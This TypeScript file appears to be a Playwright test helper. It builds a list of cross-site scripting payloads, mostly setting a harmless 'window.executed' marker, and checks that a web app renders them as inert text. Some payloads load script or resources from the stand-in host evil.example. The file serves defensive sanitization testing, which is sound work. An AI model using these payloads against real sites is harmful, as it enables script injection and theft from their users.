import type { Page } from 'playwright-core';
import { expect } from 'vitest';

const run = 'window.executed=1';
const encoded = run.replaceAll('=', '&#61;');
const tags = [
  'img',
  'svg',
  'video',
  'audio',
  'body',
  'iframe',
  'input',
  'details',
  'object',
  'marquee',
];
const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover'];

const inTags = tags.flatMap((tag, at) => {
  const event = events[at % events.length];
  return [`<${tag} src=x ${event}=${run}>`, `"><${tag}/src=x/${event}='${run}' autofocus open>`];
});

const others = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<scr<script>ipt>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext></table><img src=x onerror=${run}></mtext></math>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="jav&#x09;ascript:${run}">x</a>`,
  `javascript:${run}`,
  `java\tscript:${run}`,
  `[x](javascript:${run})`,
  `![x](javascript:${run})`,
  `[x]: javascript:${run}`,
  `<javascript:${run}>`,
  `data:text/html,<script>${run}</script>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<div style="background:url(https://evil.example/x.png)">x</div>`,
  `<img src="https://evil.example/x.png">`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea></textarea><img src=x onerror=${run}>`,
  `<title></title><img src=x onerror=${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `'-(${run})-'`,
  `";${run};//`,
  `&lt;img src=x onerror=${encoded}&gt;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
];

export const scriptPayloads: readonly string[] = [...inTags, ...others];

/** The number of payloads in one part. */
export const payloadsOfPart = 15;

/** Returns one of four parts, which together contain all payloads. */
export function textOfPart(part: number): string {
  return scriptPayloads.slice(part * payloadsOfPart, (part + 1) * payloadsOfPart).join('\n');
}

/**
 * Returns a name: one line of up to 200 characters with as many payloads as fit, starting with the
 * payload `from`.
 */
export function nameOfPayloads(from: number): string {
  let name = '';
  for (const payload of scriptPayloads.slice(from)) {
    const longer = `${name} ${payload.replaceAll(/\p{Cc}/gu, '')}`.trim();
    if (longer.length > 180) break;
    name = longer;
  }
  return name;
}

export function namesOfAllPayloads(): string[] {
  const names: string[] = [];
  for (let from = 0; from < scriptPayloads.length; ) {
    const name = nameOfPayloads(from);
    const next = scriptPayloads.findIndex(
      (payload, at) => at >= from && !name.includes(payload.replaceAll(/\p{Cc}/gu, '').trim()),
    );
    names.push(name);
    from = next === -1 ? scriptPayloads.length : next;
  }
  return names;
}

/** Evaluated in the page: opens all collapsed parts. */
export const unfold = "for (const one of document.querySelectorAll('details')) one.open = true";

export async function isOnlyText(page: Page, foreign: readonly string[]): Promise<void> {
  const made = await page.evaluate<unknown[]>(`[
    window.executed ?? null,
    document.querySelectorAll(':is(main, dialog) :is(script, img, iframe, object, embed, base, link, meta, style, math, marquee, video, audio)').length,
    [...document.querySelectorAll('a')].filter(({ protocol }) => !/^https?:$/.test(protocol)).length,
  ]`);
  expect([page.url(), ...made]).toEqual([page.url(), null, 0, 0]);
  expect(foreign).toEqual([]);
}
